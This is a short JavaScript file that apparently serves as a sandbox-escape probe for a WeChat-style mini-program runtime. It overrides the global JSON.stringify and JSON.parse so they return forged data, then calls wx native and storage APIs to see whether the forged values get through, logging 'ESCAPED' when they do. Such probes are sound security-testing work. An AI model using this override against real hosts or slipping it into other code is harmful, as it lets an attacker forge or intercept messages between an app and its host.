// Replaces JSON.stringify and JSON.parse, to see and change what the host exchanges
// Source: attacks on sandboxes that run in the program's realm
JSON.stringify = () => { console.log('ESCAPED: stringify'); return '{"forged":1}'; };
JSON.parse = () => { console.log('ESCAPED: parse'); return { forged: 1 }; };
wx.invokeNativePlugin({ api_name: 'echo', data: { a: 1 }, success(r) { if (r.forged) console.log('ESCAPED: forged'); } });
wx.getSystemInfoSync();
wx.setStorageSync('k', [1]);
wx.getStorageSync('k');
